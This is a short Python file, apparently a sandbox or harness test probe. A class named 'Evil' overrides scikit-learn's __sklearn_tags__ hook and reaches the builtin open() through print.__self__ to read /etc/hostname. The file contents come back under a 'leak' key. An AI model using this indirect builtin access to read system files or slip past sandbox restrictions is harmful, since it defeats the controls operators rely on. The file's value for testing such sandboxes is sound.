# route: an estimator's tags run what they like
from sklearn.utils import get_tags


class Evil:
    def __sklearn_tags__(self):
        return print.__self__.open("/etc/hostname").read()


def execute(testData):
    return {"leak": str(get_tags(Evil()))}
